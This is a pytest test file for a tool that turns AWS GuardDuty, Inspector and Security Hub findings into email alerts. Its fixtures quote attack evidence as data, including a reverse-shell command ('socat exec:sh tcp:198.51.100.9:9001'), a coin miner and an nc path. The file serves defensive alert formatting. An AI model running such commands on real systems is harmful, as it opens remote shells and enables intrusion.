"""What a finding says in fields of its format stands in its email, before the JSON, whichever product filled them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from formatter.finding.finding import Finding
from formatter.finding.reader import finding_from
from formatter.memory.records import Kind
from formatter.messages.facts.every import format_facts
from formatter.messages.facts.packages import packages
from formatter.messages.facts.product_fields import guardduty_service
from formatter.messages.layouts.registry import layout_of
from harness.findings import NOW, PREFERENCES, finding, from_event, told

_AS_JSON = "THE FINDING AS JSON"


def before_json(found: Finding) -> str:
    return told(found, Kind.NEW, PREFERENCES, NOW).body.partition(_AS_JSON)[0]


@pytest.mark.parametrize(
    ("name", "words"),
    [
        (
            "guardduty_runtime_reverse_shell",
            ["nginx", "/dev/shm/.cache/socat", "31337", "php-fpm", "198.51.100.9:9001", "cart:2.7"],
        ),
        (
            "guardduty_attack_sequence",
            ["build-bot", "203.0.113.21", "Peru", "Exfiltration:S3/AnomalousBehavior", "s3:DeleteObject"],
        ),
        ("guardduty_malware_on_disk", ["EXAMPLE-Test-File", "/opt/app/upload.bin", "ab12cd"]),
        ("guardduty_recon_with_credentials", ["ListUsers", "203.0.113.44", "Example Tor", "reporting"]),
        (
            "general_threat_of_a_partner",
            ["xmr-helper", "5150", "203.0.113.90", "3333", "CoinMiner.Example", "shop-web-2"],
        ),
        (
            "exposure_ocsf",
            ["CVE-2026-1001 - openssl-libs", "IMDSv1 Allowed", "Internet Reachable", "Exploit Available"],
        ),
        (
            "control_ocsf_assessments",
            ["The rule looked at no resource", "AWS Config found nothing that the rule applies to"],
        ),
        ("control_security_group_rules", ["EC2.13"]),
        ("inspector_installed_release", ["1:3.0.7-24.el9", "1:3.0.7-27.el9"]),
    ],
)
def test_who_what_and_from_where_stand_before_the_json(name: str, words: list[str]) -> None:
    text = before_json(from_event(name))
    assert [word for word in words if word not in text] == []


@pytest.mark.parametrize(
    ("name", "evidence"),
    [
        (
            "guardduty_runtime_reverse_shell",
            (
                "/dev/shm/.cache/socat (pid 31337) as nginx, started by php-fpm: socat exec:sh tcp:198.51.100.9:9001 (once)"
            ),
        ),
        (
            "guardduty_attack_sequence",
            "build-bot from 203.0.113.21 (Lima, Peru, Example Net): Exfiltration:S3/AnomalousBehavior",
        ),
        (
            "guardduty_ssh_brute_force",
            "inbound from 198.51.100.23 (Oslo, Norway, Example Net) to port 22 SSH (12 times)",
        ),
        (
            "guardduty_recon_with_credentials",
            "reporting (AssumedRole): iam ListUsers from 203.0.113.44 (Example Tor) (3 times)",
        ),
        (
            "general_threat_of_a_partner",
            "/tmp/.xmr/helper (pid 5150); CoinMiner.Example (COIN_MINER), in /tmp/.xmr/helper, observed",
        ),
        (
            "inspector_installed_release",
            "CVE-2026-1001: openssl-libs 1:3.0.7-24.el9 -> fixed in 1:3.0.7-27.el9 and 1 more package, exploit known",
        ),
        ("control_security_group_rules", "tcp 22 from 0.0.0.0/0, tcp 22 from ::/0"),
        (
            "exposure_ocsf",
            (
                "Port 8080 is reachable from an internet gateway, "
                "EC2 instances should use Instance Metadata Service Version 2 (IMDSv2), CVE-2026-1001 - openssl-libs"
            ),
        ),
        ("access_analyzer_external", "everybody (*) may s3:GetObject,s3:ListBucket"),
        ("general_empty", ""),
    ],
)
def test_the_evidence_says_in_one_line_what_matters(name: str, evidence: str) -> None:
    found = from_event(name)
    assert layout_of(found).evidence(found) == evidence


@pytest.mark.parametrize(
    "spelling",
    ["portProbeDetails:0", "portProbeDetails/0", "portProbeDetails.0", "portProbeDetails[0]", "portProbeDetails.0_"],
)
def test_a_list_of_guardduty_is_one_however_its_items_are_written(spelling: str) -> None:
    start = "aws/guardduty/service/action/portProbeAction/"
    fields = {
        f"{start}{spelling}/localPortDetails/port": "22",
        f"{start}{spelling}/remoteIpDetails/ipAddressV4": "203.0.113.7",
    }
    found = finding("guardduty", ProductFields=fields)
    assert guardduty_service(found)["action"]["portProbeAction"]["portProbeDetails"][0]["localPortDetails"] == {
        "port": "22"
    }
    assert layout_of(found).evidence(found) == "port 22 from 203.0.113.7"


def test_the_items_of_a_list_keep_their_order() -> None:
    start = "aws/guardduty/service/runtimeDetails/process/lineage"
    fields = {f"{start}/{number}/name": f"p{number}" for number in (10, 2, 0)}
    lineage = guardduty_service(finding("guardduty", ProductFields=fields))["runtimeDetails"]["process"]["lineage"]
    assert [one["name"] for one in lineage] == ["p0", "p2", "p10"]


@pytest.mark.parametrize(
    ("package", "installed", "fixed_in"),
    [
        ({"Version": "1.1.1k", "Release": "7.el8_6", "Epoch": "1"}, "1:1.1.1k-7.el8_6", ""),
        (
            {"Version": "2.9.1", "Release": "6.amzn2", "Epoch": "0", "FixedInVersion": "0:2.9.1-7.amzn2"},
            "2.9.1-6.amzn2",
            "2.9.1-7.amzn2",
        ),
        ({"Version": "1.1.1n-0+deb11u4", "Release": "0+deb11u4"}, "1.1.1n-0+deb11u4", ""),
        ({"Version": "1.2.3", "FixedInVersion": "NotAvailable"}, "1.2.3", ""),
    ],
)
def test_a_release_is_written_as_package_managers_print_it(
    package: dict[str, Any], installed: str, fixed_in: str
) -> None:
    (one,) = packages(({"VulnerablePackages": [{"Name": "x", **package}]},))
    assert (one.installed, one.fixed_in) == (installed, fixed_in)


def test_of_many_the_first_are_told_and_how_many_more_there_are() -> None:
    found = finding(Malware=[{"Name": f"m{number}"} for number in range(90)])
    lines = [value for label, value in format_facts(found) if label == "Malware"]
    assert lines == ["m0", "m1", "m2", "m3", "m4", "and 85 more"]


@pytest.mark.parametrize("value", ["x" * 100_000, "😀" * 50_000])
def test_no_fact_is_longer_than_a_line_bears(value: str) -> None:
    parts = {"Process": {"Name": value}, "Malware": [{"Name": value}], "Network": {"SourceDomain": value}}
    found = finding(**parts, ProductFields={value: value}, Vulnerabilities=[{"Id": value}])
    assert max(len(text) for _, text in format_facts(found)) < 2_000
    assert len(layout_of(found).evidence(found)) < 300


_WORDS = {
    "guardduty-runtime": ["www-data", "/.x/nc", "4242"],
    "third-party-process-network-malware": ["kdevtmpfsi", "203.0.113.66"],
    "ocsf-exposure": ["Lambda function policies should prohibit public access", "Publicly Invocable"],
    "ocsf-warning-assessments": ["AWS Config denied access"],
}


@pytest.mark.parametrize("case", _WORDS)
def test_words_of_the_public_cases(case: str, public_findings: Path) -> None:
    path = next((public_findings.parent / "cases").glob(f"{case}.json*"))
    text = "".join(
        before_json(finding_from(json.loads(line))) for line in path.read_text(encoding="utf-8").splitlines()
    )
    assert [word for word in _WORDS[case] if word not in text] == []


def test_guardduty_says_which_threat_list_knows_the_other_side() -> None:
    start = "aws/guardduty/service/"
    fields = {
        f"{start}action/networkConnectionAction/remoteIpDetails/ipAddressV4": "203.0.113.9",
        f"{start}action/networkConnectionAction/connectionDirection": "UNKNOWN",
        f"{start}evidence/threatIntelligenceDetails.0_/threatListName": "Example List",
        f"{start}evidence/threatIntelligenceDetails.0_/threatNames.0_": "Scanner",
        f"{start}additionalInfo/portsScannedSample.0_": "88",
        f"{start}additionalInfo/portsScannedSample.1_": "25",
    }
    found = finding("guardduty", ProductFields=fields)
    assert layout_of(found).evidence(found) == "from 203.0.113.9, known from Example List"
    assert {("Threat list", "Example List"), ("Threat", "Scanner"), ("Ports scanned", "88, 25")} <= set(
        layout_of(found).facts(found)
    )


def test_of_a_resource_s_own_details_those_come_first_that_say_why() -> None:
    other = {"VpcId": "vpc-1", "Scheme": "internal", "Port": 1, "State": "a", "c7n:MatchedFilters": '[\n"tag:Owner"\n]'}
    found = finding(Resources=[{"Id": "x", "Type": "Other", "Details": {"Other": other}}])
    assert layout_of(found).evidence(found) == 'c7n:MatchedFilters = [ "tag:Owner" ]'
    (_, first), (_, second) = [fact for fact in layout_of(found).facts(found) if fact[0] == "Resource detail"][:2]
    assert (first, second) == ('c7n:MatchedFilters = [ "tag:Owner" ]', "VpcId = vpc-1")


@pytest.mark.parametrize(
    ("fields", "evidence"),
    [
        ({"Description": "Analyzer is not enabled"}, "Analyzer is not enabled"),
        ({"Description": "T"}, ""),
        ({"Description": "d" * 900}, "d" * 240 + "..."),
    ],
)
def test_where_no_field_says_it_the_product_s_own_words_do(fields: dict[str, Any], evidence: str) -> None:
    found = finding(ProductArn="arn:aws:securityhub:eu-central-1::product/example/scanner", **fields)
    assert layout_of(found).evidence(found) == evidence
    assert layout_of(found).evidence(finding(**fields)) == "", "anybody may import anything without being registered"


@pytest.mark.parametrize(
    ("direction", "evidence"),
    [
        ("Inbound", "from 203.0.113.9, port 22"),
        ("Outbound", "to 10.0.0.4, port 22"),
        ("Unknown", "from 203.0.113.9, port 22"),
    ],
)
def test_the_other_side_of_a_connection_depends_on_who_begins(direction: str, evidence: str) -> None:
    ends = {"src_endpoint": {"ip": "203.0.113.9", "port": 50123}, "dst_endpoint": {"ip": "10.0.0.4", "port": 22}}
    found = finding_from({"finding_info": {}, "evidences": [{"connection_info": {"direction": direction}, **ends}]})
    assert layout_of(found).evidence(found) == evidence
    label = "Local address" if direction == "Outbound" else "Remote address"
    assert (label, "203.0.113.9") in layout_of(found).facts(found)
